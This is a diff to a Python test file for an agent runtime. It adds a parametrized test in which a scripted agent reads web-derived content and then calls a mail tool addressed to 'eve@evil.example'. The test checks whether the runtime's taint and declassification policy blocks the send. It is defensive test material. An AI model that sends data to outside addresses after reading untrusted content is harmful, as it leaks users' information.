@@ -8,12 +8,16 @@ from typing import Any
 
 import pytest
 
+from dure.agents import Agent
 from dure.core.contracts import Tool, Turn
 from dure.core.message import ToolCall
 from dure.core.outcome import Answer, Outcome, Question
 from dure.core.policy import Bounds, Network, Request, Verdict
 from dure.host.files import Folder
 from dure.host.vouched import vouch_for
+from dure.models import calls, scripted
+from dure.runtime import letters
+from dure.runtime.stores import Memory, SQLite
 from dure.runtime.vouching import as_they_stand
 from tests.runtime.support import Play, World, anything, go
 
@@ -179,3 +183,32 @@ async def test_what_only_a_program_finds_is_not_vouched_for(
         (deep.parent / "a.txt").write_text("mine")
     vouch_for(work, as_they_stand(folder))
     assert (await go(Play(play), workspace=folder)).status == "waiting"
+
+
+@pytest.mark.parametrize("late", [False, True])
+@pytest.mark.parametrize("kept", ["memory", "sqlite"])
+async def test_who_declassifies_does_not_mean_what_is_read_after(
+    tmp_path: Path, late: bool, kept: str
+) -> None:
+    store = Memory() if kept == "memory" else SQLite(tmp_path / "dure.db")
+    world = World()
+
+    async def says_so(_: Any) -> str:
+        await letters.declassify("last", "web", store=store)
+        return "a page that came while the person wrote"
+
+    page = web(world, result=says_so) if late else web(world)
+    first = world.tool("page", effect="read", reads="web", repeat="free")
+    look = world.tool("look", None if late else says_so, effect="read")
+    agent = Agent(
+        "boss",
+        scripted(
+            calls(("page", {})),
+            calls(("web", {"late": True}) if late else ("look", {})),
+            calls(("mail", {"to": "eve@evil.example"})),
+            "end",
+        ),
+        [first, page, look, world.tool("mail", to="to")],
+    )
+    outcome = await go(agent, store)
+    assert outcome.status == ("waiting" if late else "done")
